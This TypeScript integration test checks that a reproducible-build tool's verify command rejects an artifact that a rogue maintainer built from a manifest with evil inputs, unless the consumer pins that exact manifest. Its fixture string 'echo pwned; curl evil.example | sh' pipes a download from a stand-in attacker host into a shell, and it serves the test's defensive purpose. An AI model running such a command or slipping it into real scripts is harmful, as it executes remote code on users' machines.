// A rogue maintainer against `rbnet verify`: a real coordinator, real Redis and two operators' real
// workers on the real engine. Anyone with a submit token (the coordinator operator included) can
// submit a manifest that copies evil bytes from its own inputs; honest operators then reproduce them
// faithfully. What stops the consumer from accepting them is the pin: verify requires the consumer
// to say what the file must have been built from, and says what it was built from.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sha256Hex } from '../../services/digest.ts';
import { parseManifest } from '../../services/manifest/parse-manifest.ts';
import { type NetworkHarness, startNetworkHarness } from '../support/network-harness.ts';
import { runCli } from '../support/run-cli.ts';
import { REPO_ROOT } from '../support/runner-harness.ts';

const HELLO_MANIFEST = join(REPO_ROOT, 'samples', 'hello', 'manifest.json');
const EVIL_BYTES = 'echo pwned; curl evil.example | sh\n';

let net: NetworkHarness;
let dir: string;
let policyPath: string;
let honestManifestSha256: string;
let evilManifestSha256: string;
/** hello.txt as the evil build made it: the evil bytes, copied from the evil manifest's inputs. */
let evilFile: string;
/** hello.txt as the published hello manifest builds it. */
let helloFile: string;

async function download(sha256: string, name: string): Promise<string> {
  const response = await fetch(`${net.coordinator.url}/v1/cas/sha256/${sha256}`);
  expect(response.status).toBe(200);
  const path = join(dir, name);
  await writeFile(path, Buffer.from(await response.arrayBuffer()));
  return path;
}

/** A generic manifest named "hello", like the published one, whose build copies evil.bin to hello.txt. */
async function writeEvilManifest(): Promise<string> {
  const published = JSON.parse(await readFile(HELLO_MANIFEST, 'utf8')) as Record<string, unknown>;
  const script = '#!/bin/sh\nset -eu\nmkdir -p out\ncp evil.bin out/hello.txt\n';
  await writeFile(join(dir, 'build.sh'), script);
  await writeFile(join(dir, 'evil.bin'), EVIL_BYTES);
  const evil = {
    ...published,
    inputs: [
      { path: 'build.sh', sha256: sha256Hex(script), location: 'build.sh', mode: '0755' },
      { path: 'evil.bin', sha256: sha256Hex(EVIL_BYTES), location: 'evil.bin' },
    ],
    // The parser refuses a claim equal to an input's digest, so the evil build claims nothing.
    claimedOutputs: [],
  };
  const path = join(dir, 'evil-manifest.json');
  await writeFile(path, JSON.stringify(evil, null, 2));
  return path;
}

const verify = (file: string, ...pin: string[]) =>
  runCli(['verify', file, '--policy', policyPath, '--coordinator', net.coordinator.url, ...pin]);

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'rbnet-rogue-maintainer-'));
  net = await startNetworkHarness({ threshold: 2, prefix: 'rogue-maintainer' });
  await net.addWorker('alpha', 'alpha-rm');
  await net.addWorker('beta', 'beta-rm');
  const maintainer = await net.maintainerToken();

  const evilManifest = await writeEvilManifest();
  evilManifestSha256 = parseManifest(await readFile(evilManifest)).manifestSha256;
  honestManifestSha256 = parseManifest(await readFile(HELLO_MANIFEST)).manifestSha256;
  const evilBuild = await net.submit(evilManifest, maintainer);
  const helloBuild = await net.submit(HELLO_MANIFEST, maintainer);
  const evil = await net.waitForVerdict(evilBuild);
  const hello = await net.waitForVerdict(helloBuild);
  // Both honest operators faithfully reproduce the evil build: nothing at the coordinator is wrong.
  expect(evil.verdict).toBe('agreed');
  expect(hello.verdict).toBe('reproducible');
  evilFile = await download(sha256Hex(EVIL_BYTES), 'evil-hello.txt');
  const helloOutput = hello.results[0].outputs.find((o: { path: string }) => o.path === 'hello.txt');
  helloFile = await download(helloOutput.sha256, 'hello.txt');

  policyPath = join(dir, 'policy.json');
  const created = await runCli([
    'policy',
    'create',
    '--threshold',
    '2',
    '--expires',
    new Date(Date.now() + 86_400_000).toISOString(),
    '--out',
    policyPath,
    '--operator',
    `alpha=${join(net.workerDirs.get('alpha-rm')!, 'worker-signing.key.pub')}`,
    '--operator',
    `beta=${join(net.workerDirs.get('beta-rm')!, 'worker-signing.key.pub')}`,
  ]);
  expect(created.code, created.stderr).toBe(0);
}, 300_000);

afterAll(async () => {
  await net?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('a rogue maintainer submits a manifest that copies evil.bin from its inputs', () => {
  it('verify without a pin is refused: the consumer must say what the file was built from', async () => {
    const run = await verify(evilFile);
    expect(run.code, run.stdout).toBe(2);
    expect(run.stderr).toMatch(/--manifest.*--manifest-sha256.*--debian-source/s);
    expect(run.stdout).not.toContain('VERIFIED');
  });

  it('pinned to the published hello manifest: NOT VERIFIED, naming the manifest the file was built from', async () => {
    const run = await verify(evilFile, '--manifest', HELLO_MANIFEST);
    expect(run.code, run.stdout).toBe(1);
    expect(run.stdout).toContain(`you pinned manifest sha256:${honestManifestSha256}`);
    expect(run.stdout).toContain(`manifest sha256:${evilManifestSha256}`);
    expect(run.stdout).toMatch(/NOT VERIFIED/);
  });

  it('pinned by digest to the published hello manifest: NOT VERIFIED', async () => {
    const run = await verify(evilFile, '--manifest-sha256', honestManifestSha256);
    expect(run.code, run.stdout).toBe(1);
    expect(run.stdout).toMatch(/NOT VERIFIED/);
  });

  it('pinned to the evil manifest itself: VERIFIED, and the output shows evil.bin among the signed inputs', async () => {
    const run = await verify(evilFile, '--manifest-sha256', evilManifestSha256, '--json');
    expect(run.code, run.stdout).toBe(0);
    const report = JSON.parse(run.stdout);
    const verified = report.builds.find((b: { ok: boolean }) => b.ok);
    expect(verified.builtFrom.manifestSha256).toBe(evilManifestSha256);
    expect(verified.builtFrom.inputs).toContainEqual({ path: 'evil.bin', sha256: sha256Hex(EVIL_BYTES) });
  });

  it('the honest hello.txt, pinned to its manifest: VERIFIED, built from that manifest and its inputs', async () => {
    const run = await verify(helloFile, '--manifest', HELLO_MANIFEST);
    expect(run.code, run.stdout).toBe(0);
    expect(run.stdout).toContain(`built from manifest sha256:${honestManifestSha256}`);
    expect(run.stdout).toMatch(/input message\.txt sha256:[0-9a-f]{64}/);
  });
});
